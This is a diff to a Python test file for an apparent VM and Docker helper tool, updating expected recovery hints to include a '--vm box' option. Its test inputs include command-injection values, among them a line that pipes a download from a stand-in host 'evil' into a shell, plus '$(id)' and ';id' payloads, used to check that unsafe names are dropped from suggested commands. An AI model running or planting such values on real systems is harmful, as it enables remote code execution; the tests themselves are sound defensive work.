@@ -27,17 +27,17 @@ def unmount_error(folder: Path, *lines: str) -> InvalidStateError:
 @pytest.mark.parametrize(
     ("line", "hint"),
     [
-        ("held program 1;curl${IFS}evil|sh; x", "b2d stop"),
-        ("held program $(id) x", "b2d stop"),
-        ("held program -1 x", "b2d stop"),
-        ("held program \u0661\u0662 x", "b2d stop"),
-        ("held program 12345678901 x", "b2d stop"),
-        ("held program 12 x;id", "b2d ssh sudo kill 12 && b2d save, or b2d stop"),
-        ("held container --help", "b2d stop"),
-        ("held container a;id", "b2d stop"),
-        ("held container $(id)", "b2d stop"),
-        ("held container " + "a" * 300, "b2d stop"),
-        ("held container web.1_a-b", "docker stop web.1_a-b && b2d save, or b2d stop"),
+        ("held program 1;curl${IFS}evil|sh; x", "b2d stop --vm box"),
+        ("held program $(id) x", "b2d stop --vm box"),
+        ("held program -1 x", "b2d stop --vm box"),
+        ("held program \u0661\u0662 x", "b2d stop --vm box"),
+        ("held program 12345678901 x", "b2d stop --vm box"),
+        ("held program 12 x;id", "b2d ssh --vm box -- sudo kill 12 && b2d save --vm box, or b2d stop --vm box"),
+        ("held container --help", "b2d stop --vm box"),
+        ("held container a;id", "b2d stop --vm box"),
+        ("held container $(id)", "b2d stop --vm box"),
+        ("held container " + "a" * 300, "b2d stop --vm box"),
+        ("held container web.1_a-b", "docker stop web.1_a-b && b2d save --vm box, or b2d stop --vm box"),
     ],
 )
 def test_in_a_command_stand_only_numbers_of_processes_and_names_of_containers(
@@ -50,7 +50,8 @@ def test_those_that_are_sound_are_named_and_the_others_left_out(tmp_path: Path) 
     error = unmount_error(
         tmp_path, "held container web", "held container x;id", "held program 7 a", "held program 8;id b"
     )
-    assert error.hint == "docker stop web && b2d ssh sudo kill 7 && b2d save, or b2d stop"
+    kill = "b2d ssh --vm box -- sudo kill 7"
+    assert error.hint == f"docker stop web && {kill} && b2d save --vm box, or b2d stop --vm box"
 
 
 def test_a_crowd_in_the_way_is_not_listed_without_an_end(tmp_path: Path) -> None:
